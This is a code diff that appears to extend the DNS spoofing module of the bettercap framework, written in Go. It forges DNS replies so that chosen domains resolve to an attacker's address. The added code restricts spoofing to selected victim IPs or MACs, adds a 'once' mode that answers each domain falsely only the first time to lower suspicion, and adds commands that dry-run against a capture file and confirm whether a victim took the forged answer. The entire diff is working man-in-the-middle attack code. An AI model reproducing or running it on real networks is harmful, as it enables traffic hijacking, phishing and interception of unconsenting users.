@@ -5,9 +5,11 @@ import (
 	"fmt"
 	"net"
 	"sync"
+	"time"
 
 	"github.com/bettercap/bettercap/core"
 	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/network"
 	"github.com/bettercap/bettercap/packets"
 	"github.com/bettercap/bettercap/session"
 
@@ -21,8 +23,14 @@ type DNSSpoofer struct {
 	Handle        *pcap.Handle
 	Hosts         Hosts
 	All           bool
+	addresses     []net.IP
+	macs          []net.HardwareAddr
 	waitGroup     *sync.WaitGroup
 	pktSourceChan chan gopacket.Packet
+	once          bool
+	answered      *dnsSpoofCache
+	skipped       *dnsSpoofCache
+	checks        *dnsSpoofChecks
 }
 
 func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
@@ -32,6 +40,7 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		All:           false,
 		Hosts:         Hosts{},
 		waitGroup:     &sync.WaitGroup{},
+		checks:        newDNSSpoofChecks(),
 	}
 
 	spoof.AddParam(session.NewStringParameter("dns.spoof.hosts",
@@ -53,6 +62,39 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		"false",
 		"If true the module will reply to every DNS request, otherwise it will only reply to the one targeting the local pc."))
 
+	spoof.AddParam(session.NewStringParameter("dns.spoof.targets",
+		"",
+		"",
+		"If not empty, only DNS requests coming from this comma separated list of IP addresses, MAC addresses or aliases (also supports nmap style IP ranges) will be spoofed, everybody else gets the real answers."))
+
+	spoof.AddParam(session.NewBoolParameter("dns.spoof.once",
+		"false",
+		"If true, each domain is only spoofed the first time a client asks for it, the following identical queries get the real answers until dns.spoof.cache.ttl expires."))
+
+	spoof.AddParam(session.NewIntParameter("dns.spoof.cache.ttl",
+		"300",
+		"Number of seconds dns.spoof remembers the answered (client, domain) pairs and the domains that matched no rule."))
+
+	spoof.AddParam(session.NewIntParameter("dns.spoof.cache.size",
+		"4096",
+		"Maximum number of entries of each dns.spoof cache, the oldest ones are evicted first."))
+
+	spoof.AddHandler(session.NewModuleHandler("dns.spoof.test PCAP", `dns\.spoof\.test\s+(.+)`,
+		"Read the DNS queries from the PCAP file and show which ones would be spoofed with the current parameters and what would be answered, without sending anything.",
+		func(args []string) error {
+			return spoof.Test(args[0])
+		}))
+
+	spoof.AddParam(session.NewIntParameter("dns.spoof.check.timeout",
+		"30",
+		"Number of seconds dns.spoof.check waits for the target to resolve the domain."))
+
+	spoof.AddHandler(session.NewModuleHandler("dns.spoof.check TARGET DOMAIN", `dns\.spoof\.check\s+([^\s]+)\s+([^\s]+)`,
+		"Watch the next answer the TARGET IP address gets for DOMAIN and tell if it is the spoofed one (dns.spoof.confirmed) or the real one (dns.spoof.bypassed).",
+		func(args []string) error {
+			return spoof.Check(args[0], args[1])
+		}))
+
 	spoof.AddHandler(session.NewModuleHandler("dns.spoof on", "",
 		"Start the DNS spoofer in the background.",
 		func(args []string) error {
@@ -80,28 +122,39 @@ func (s DNSSpoofer) Author() string {
 	return "Simone Margaritelli <evilsocket@protonmail.com>"
 }
 
-func (s *DNSSpoofer) Configure() error {
+// loadRules reads the domains, hosts file and targets from the parameters
+// without touching the network.
+func (s *DNSSpoofer) loadRules() error {
 	var err error
 	var hostsFile string
 	var domains []string
 	var address net.IP
+	var targets string
+	var ttl, size int
 
-	if s.Running() {
-		return session.ErrAlreadyStarted
-	} else if s.Handle, err = pcap.OpenLive(s.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+	if err, s.All = s.BoolParam("dns.spoof.all"); err != nil {
 		return err
-	} else if err = s.Handle.SetBPFFilter("udp"); err != nil {
+	} else if err, s.once = s.BoolParam("dns.spoof.once"); err != nil {
+		return err
+	} else if err, ttl = s.IntParam("dns.spoof.cache.ttl"); err != nil {
 		return err
-	} else if err, s.All = s.BoolParam("dns.spoof.all"); err != nil {
+	} else if err, size = s.IntParam("dns.spoof.cache.size"); err != nil {
 		return err
+	} else if ttl <= 0 || size <= 0 {
+		return fmt.Errorf("dns.spoof.cache.ttl and dns.spoof.cache.size must be greater than 0")
 	} else if err, address = s.IPParam("dns.spoof.address"); err != nil {
 		return err
 	} else if err, domains = s.ListParam("dns.spoof.domains"); err != nil {
 		return err
 	} else if err, hostsFile = s.StringParam("dns.spoof.hosts"); err != nil {
 		return err
+	} else if err, targets = s.StringParam("dns.spoof.targets"); err != nil {
+		return err
+	} else if s.addresses, s.macs, err = network.ParseTargets(targets, s.Session.Lan.Aliases()); err != nil {
+		return err
 	}
 
+	s.Hosts = Hosts{}
 	for _, domain := range domains {
 		s.Hosts = append(s.Hosts, NewHostEntry(domain, address))
 	}
@@ -119,10 +172,34 @@ func (s *DNSSpoofer) Configure() error {
 		return fmt.Errorf("at least dns.spoof.hosts or dns.spoof.domains must be filled")
 	}
 
+	// what's cached depends on the rules, start from scratch
+	s.answered = newDNSSpoofCache(size, time.Duration(ttl)*time.Second)
+	s.skipped = newDNSSpoofCache(size, time.Duration(ttl)*time.Second)
+
+	return nil
+}
+
+func (s *DNSSpoofer) Configure() error {
+	var err error
+
+	if s.Running() {
+		return session.ErrAlreadyStarted
+	} else if err = s.loadRules(); err != nil {
+		return err
+	} else if s.Handle, err = pcap.OpenLive(s.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return err
+	} else if err = s.Handle.SetBPFFilter("udp"); err != nil {
+		return err
+	}
+
 	for _, entry := range s.Hosts {
 		log.Info("[%s] %s -> %s", core.Green("dns.spoof"), entry.Host, entry.Address)
 	}
 
+	if len(s.addresses) > 0 || len(s.macs) > 0 {
+		log.Info("[%s] only spoofing requests from %d addresses and %d hardware addresses.", core.Green("dns.spoof"), len(s.addresses), len(s.macs))
+	}
+
 	if !s.Session.Firewall.IsForwardingEnabled() {
 		log.Info("Enabling forwarding.")
 		s.Session.Firewall.EnableForwarding(true)
@@ -131,6 +208,30 @@ func (s *DNSSpoofer) Configure() error {
 	return nil
 }
 
+// buildDNSReply returns the spoofed answer to req.
+func buildDNSReply(req *layers.DNS, address net.IP) *layers.DNS {
+	answers := make([]layers.DNSResourceRecord, 0)
+	for _, q := range req.Questions {
+		answers = append(answers,
+			layers.DNSResourceRecord{
+				Name:  []byte(q.Name),
+				Type:  q.Type,
+				Class: q.Class,
+				TTL:   1024,
+				IP:    address,
+			})
+	}
+
+	return &layers.DNS{
+		ID:        req.ID,
+		QR:        true,
+		OpCode:    layers.DNSOpCodeQuery,
+		QDCount:   req.QDCount,
+		Questions: req.Questions,
+		Answers:   answers,
+	}
+}
+
 func (s *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *layers.UDP, domain string, address net.IP, req *layers.DNS, target net.HardwareAddr) {
 	redir := fmt.Sprintf("(->%s)", address.String())
 	who := target.String()
@@ -174,26 +275,7 @@ func (s *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *
 		EthernetType: eType,
 	}
 
-	answers := make([]layers.DNSResourceRecord, 0)
-	for _, q := range req.Questions {
-		answers = append(answers,
-			layers.DNSResourceRecord{
-				Name:  []byte(q.Name),
-				Type:  q.Type,
-				Class: q.Class,
-				TTL:   1024,
-				IP:    address,
-			})
-	}
-
-	dns := layers.DNS{
-		ID:        req.ID,
-		QR:        true,
-		OpCode:    layers.DNSOpCodeQuery,
-		QDCount:   req.QDCount,
-		Questions: req.Questions,
-		Answers:   answers,
-	}
+	dns := buildDNSReply(req, address)
 
 	var raw []byte
 
@@ -213,7 +295,7 @@ func (s *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *
 
 		udp.SetNetworkLayerForChecksum(&ip6)
 
-		err, raw = packets.Serialize(&eth, &ip6, &udp, &dns)
+		err, raw = packets.Serialize(&eth, &ip6, &udp, dns)
 		if err != nil {
 			log.Error("error serializing packet: %s.", err)
 			return
@@ -234,7 +316,7 @@ func (s *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *
 
 		udp.SetNetworkLayerForChecksum(&ip4)
 
-		err, raw = packets.Serialize(&eth, &ip4, &udp, &dns)
+		err, raw = packets.Serialize(&eth, &ip4, &udp, dns)
 		if err != nil {
 			log.Error("error serializing packet: %s.", err)
 			return
@@ -242,32 +324,102 @@ func (s *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *
 	}
 
 	log.Debug("sending %d bytes of packet ...", len(raw))
-	if err := s.Session.Queue.Send(raw); err != nil {
+	if err := s.Send(raw); err != nil {
 		log.Error("error sending packet: %s", err)
 	}
 }
 
+// parseDNSQuery returns the ethernet, udp and dns layers of pkt if it
+// is a DNS query with at least one question.
+func parseDNSQuery(pkt gopacket.Packet) (*layers.Ethernet, *layers.UDP, *layers.DNS, bool) {
+	eth, isEth := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	udp, isUDP := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
+	if !isEth || !isUDP {
+		return nil, nil, nil, false
+	}
+
+	dns, parsed := pkt.Layer(layers.LayerTypeDNS).(*layers.DNS)
+	if !parsed || dns.QR || dns.OpCode != layers.DNSOpCodeQuery || len(dns.Questions) == 0 || len(dns.Answers) > 0 {
+		return nil, nil, nil, false
+	}
+
+	return eth, udp, dns, true
+}
+
+// inTargets returns true if pkt comes from one of addresses or macs, or if
+// both are empty.
+func inTargets(pkt gopacket.Packet, eth *layers.Ethernet, addresses []net.IP, macs []net.HardwareAddr) bool {
+	if len(addresses) == 0 && len(macs) == 0 {
+		return true
+	}
+
+	for _, hw := range macs {
+		if bytes.Equal(hw, eth.SrcMAC) {
+			return true
+		}
+	}
+
+	if nlayer := pkt.NetworkLayer(); nlayer != nil {
+		src := net.IP(nlayer.NetworkFlow().Src().Raw())
+		for _, ip := range addresses {
+			if ip.Equal(src) {
+				return true
+			}
+		}
+	}
+
+	return false
+}
+
+// inScope returns true if the request comes from one of the dns.spoof.targets
+// hosts, or if no target has been specified at all.
+func (s *DNSSpoofer) inScope(pkt gopacket.Packet, eth *layers.Ethernet) bool {
+	return inTargets(pkt, eth, s.addresses, s.macs)
+}
+
+// resolveQuery returns the first question of the query matching one of the
+// spoofing rules and the address to reply with.
+func (s *DNSSpoofer) resolveQuery(dns *layers.DNS) (string, net.IP) {
+	for _, q := range dns.Questions {
+		qName := string(q.Name)
+		if s.skipped.Has(qName) {
+			continue
+		} else if address := s.Hosts.Resolve(qName); address != nil {
+			return qName, address
+		}
+		log.Debug("skipping domain %s", qName)
+		s.skipped.Add(qName)
+	}
+	return "", nil
+}
+
 func (s *DNSSpoofer) onPacket(pkt gopacket.Packet) {
-	typeEth := pkt.Layer(layers.LayerTypeEthernet)
-	typeUDP := pkt.Layer(layers.LayerTypeUDP)
-	if typeEth == nil || typeUDP == nil {
+	s.onCheckPacket(pkt)
+
+	eth, udp, dns, ok := parseDNSQuery(pkt)
+	if !ok {
+		return
+	}
+
+	if !s.inScope(pkt, eth) {
+		log.Debug("skipping DNS request from %s, not a target.", eth.SrcMAC)
+		return
+	} else if s.Session.Paused() {
+		// let the real server answer until the session is resumed
 		return
 	}
 
-	eth := typeEth.(*layers.Ethernet)
 	if s.All || bytes.Equal(eth.DstMAC, s.Session.Interface.HW) {
-		dns, parsed := pkt.Layer(layers.LayerTypeDNS).(*layers.DNS)
-		if parsed && dns.OpCode == layers.DNSOpCodeQuery && len(dns.Questions) > 0 && len(dns.Answers) == 0 {
-			udp := typeUDP.(*layers.UDP)
-			for _, q := range dns.Questions {
-				qName := string(q.Name)
-				if address := s.Hosts.Resolve(qName); address != nil {
-					s.dnsReply(pkt, eth, udp, qName, address, dns, eth.SrcMAC)
-					break
-				} else {
-					log.Debug("skipping domain %s", qName)
+		if qName, address := s.resolveQuery(dns); address != nil {
+			if s.once {
+				key := eth.SrcMAC.String() + "|" + qName
+				if s.answered.Has(key) {
+					log.Debug("already spoofed %s for %s, letting it through.", qName, eth.SrcMAC)
+					return
 				}
+				s.answered.Add(key)
 			}
+			s.dnsReply(pkt, eth, udp, qName, address, dns, eth.SrcMAC)
 		}
 	}
 }
@@ -288,6 +440,7 @@ func (s *DNSSpoofer) Start() error {
 				break
 			}
 
+			s.FrameReceived()
 			s.onPacket(packet)
 		}
 	})